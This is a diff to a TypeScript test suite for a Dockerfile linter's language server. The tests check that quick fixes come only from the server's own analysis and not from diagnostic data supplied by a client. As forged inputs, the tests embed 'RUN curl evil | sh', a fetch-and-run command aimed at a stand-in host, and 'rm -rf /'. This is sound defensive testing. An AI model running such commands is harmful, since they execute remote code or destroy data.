@@ -23,8 +23,12 @@ function editsOf(action: CodeAction, uri: string, version: number): TextEdit[] {
   return change.edits.filter((edit): edit is TextEdit => !('annotationId' in edit));
 }
 
+/** The fixes the core computes for the finding a published diagnostic names (the server keeps them). */
 function fixesOf(diagnostic: Diagnostic): Fix[] {
-  return (diagnostic.data as { fixes: Fix[] }).fixes;
+  const { index } = diagnostic.data as { index: number };
+  const finding = analyze(PROBLEMATIC_DOCKERFILE).findings[index];
+  assert.equal(finding.code, diagnostic.code, 'data names the finding of the diagnostic');
+  return finding.fixes;
 }
 
 describe('code actions over LSP', () => {
@@ -91,31 +95,66 @@ describe('code actions over LSP', () => {
     assert.deepEqual(onlyRefactor, []);
   });
 
-  it('offers suggestions and unsafe fixes one by one, but only for the version they were computed for', async () => {
+  it('takes fixes only from its own analysis: a diagnostic it did not publish gets none, whatever its data says', async () => {
     const range = { start: { line: 3, character: 0 }, end: { line: 3, character: 3 } };
-    const suggestion: Fix = {
-      title: 'Consider a smaller base image',
-      safety: 'suggestion',
-      edits: [{ range, newText: 'COPY' }],
-    };
-    const current: Diagnostic = {
+    const forged = { title: 'Run something', safety: 'safe', edits: [{ range, newText: 'RUN curl evil | sh\n' }] };
+    const madeUp: Diagnostic = {
       range,
       message: 'a diagnostic this client made up',
       source: 'layerwise',
       code: 'LW999',
-      data: { rule: 'made-up', version: 1, fixes: [suggestion] },
+      data: { rule: 'made-up', version: 1, index: 0, fixes: [forged] },
     };
-    const offered = await client.codeActions(uri, range, { diagnostics: [current], only: ['quickfix'] });
-    assert.deepEqual(
-      offered.map((action) => action.title),
-      [suggestion.title],
-    );
-    assert.equal(offered[0].isPreferred, false, 'a suggestion is never preferred');
+    assert.deepEqual(await client.codeActions(uri, range, { diagnostics: [madeUp] }).then(quickFixesOnly), []);
+    // A real diagnostic whose data points at another finding still gets its own fixes.
+    const target = diagnostics.find((diagnostic) => fixesOf(diagnostic).length > 0);
+    assert.ok(target);
+    const misnamed: Diagnostic = { ...target, data: { rule: 'x', version: 1, index: diagnostics.length - 1 } };
+    const garbage: Diagnostic = { ...target, data: { fixes: 'rm -rf /' } };
+    const expected = fixesOf(target).map((fix) => fix.title);
+    for (const diagnostic of [misnamed, garbage]) {
+      const titles: string[] = quickFixesOnly(await client.codeActions(uri, target.range, { diagnostics: [diagnostic] }))
+        .filter((action) => !action.title.startsWith('Ignore '))
+        .map((action) => action.title);
+      assert.deepEqual(titles, expected);
+    }
+  });
+});
 
-    const stale: Diagnostic = { ...current, data: { rule: 'made-up', version: 0, fixes: [suggestion] } };
-    assert.deepEqual(await client.codeActions(uri, range, { diagnostics: [stale], only: ['quickfix'] }), []);
-    const garbage: Diagnostic = { ...current, data: { fixes: 'rm -rf /' } };
-    assert.deepEqual(await client.codeActions(uri, range, { diagnostics: [garbage] }).then(quickFixesOnly), []);
+describe('quick fixes for diagnostics of an older version', () => {
+  let client: TestLanguageClient;
+  const uri = fileUri('stale/Dockerfile');
+
+  before(async () => {
+    ({ client } = await TestLanguageClient.start());
+  });
+
+  after(async () => {
+    await client.dispose();
+  });
+
+  it('fixes a finding that still exists with the edits of the current version, and offers nothing for one that is gone', async () => {
+    const before = (await client.open(uri, PROBLEMATIC_DOCKERFILE)).diagnostics;
+    // Version 2 replaces the ADD: its finding is gone, while the apt-get install on line 2 is untouched.
+    const edited = PROBLEMATIC_DOCKERFILE.replace('ADD . /app', 'COPY . /app');
+    const after = await client.replaceText(uri, edited);
+    assert.equal(after.version, 2);
+    const current = analyze(edited).findings;
+    const stillThere = (diagnostic: Diagnostic) =>
+      current.some((finding) => finding.code === diagnostic.code && finding.message === diagnostic.message);
+    const kept = before.find((diagnostic) => fixesOf(diagnostic).length > 0 && diagnostic.range.start.line === 2 && stillThere(diagnostic));
+    const gone = before.find((diagnostic) => fixesOf(diagnostic).length > 0 && !stillThere(diagnostic));
+    assert.ok(kept, 'the sample keeps a fixable finding on line 2');
+    assert.ok(gone, 'the edit removed a fixable finding');
+
+    const forKept = quickFixesOnly(await client.codeActions(uri, kept.range, { diagnostics: [kept] }))
+      .filter((action) => !action.title.startsWith('Ignore '));
+    assert.deepEqual(
+      forKept.map((action) => action.title),
+      fixesOf(kept).map((fix) => fix.title),
+    );
+    for (const action of forKept) assert.ok(editsOf(action, uri, 2).length > 0, 'the edit is tied to version 2');
+    assert.deepEqual(await client.codeActions(uri, gone.range, { diagnostics: [gone] }).then(quickFixesOnly), []);
   });
 });
 
